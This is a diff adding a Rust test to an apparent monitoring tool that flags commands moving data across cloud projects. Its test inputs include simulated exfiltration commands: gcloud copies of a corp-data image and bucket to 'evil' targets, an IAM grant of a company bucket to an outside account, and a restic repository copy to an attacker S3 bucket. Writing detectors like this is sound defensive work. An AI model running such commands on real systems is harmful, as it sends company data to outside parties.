@@ -799,6 +799,47 @@ fn profiles_that_name_accounts_accuse() {
     }
 }
 
+/// The project that commands run in may stand in the environment, and the place that something is copied from too.
+#[test]
+fn the_environment_names_the_project_and_where_from() {
+    let told = |args: &[&str], env: &[&str]| {
+        let mut w = World::new();
+        w.policy = own();
+        let shell = w.launch(0.0, ZSH, &["-zsh"]);
+        let child = w.fork(1.0, &shell);
+        let program = tool(args[0].to_owned().leak());
+        w.exec_in(1.1, &child, program, args, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
+        w.tell()
+    };
+    let image =
+        ["gcloud", "compute", "images", "create", "x", "--source-image=projects/corp-data/global/images/i"];
+    told(&image, &[]).none();
+    let there = told(&image, &["CLOUDSDK_CORE_PROJECT=evil-project"]);
+    assert_eq!(there.alert().tenant.as_deref(), Some("evil-project"));
+    told(&image, &["CLOUDSDK_CORE_PROJECT=corp-data"]).none();
+    let by_option = [&image[..], &["--project=corp-data"]].concat();
+    told(&by_option, &["CLOUDSDK_CORE_PROJECT=evil-project"]).none();
+    // What the project owns is nobody else.
+    let share = [
+        "gcloud",
+        "storage",
+        "buckets",
+        "add-iam-policy-binding",
+        "gs://corp-data",
+        "--member=serviceAccount:job@some-project.iam.gserviceaccount.com",
+    ];
+    told(&share, &["CLOUDSDK_CORE_PROJECT=some-project"]).none();
+    told(&share, &["CLOUDSDK_CORE_PROJECT=other"]).alert();
+    // A bucket is in no project that one works in.
+    let bucket = ["gcloud", "storage", "cp", "gs://corp-data/x", "gs://evil/x"];
+    assert_eq!(told(&bucket, &["CLOUDSDK_CORE_PROJECT=corp-data"]).alert().tenant.as_deref(), Some("evil"));
+    let from = "RESTIC_FROM_REPOSITORY=s3:s3.amazonaws.com/corp-data";
+    let copied = told(&["restic", "-r", "s3:s3.amazonaws.com/evil", "copy"], &[from]);
+    assert_eq!(copied.alert().tenant.as_deref(), Some("evil"));
+    told(&["restic", "-r", "s3:s3.amazonaws.com/corp-backup", "copy"], &[from]).none();
+    told(&["restic", "-r", "s3:s3.amazonaws.com/evil", "snapshots"], &[from]).none();
+}
+
 /// What a database is asked may let another account in.
 #[test]
 fn grants_in_statements_are_told() {
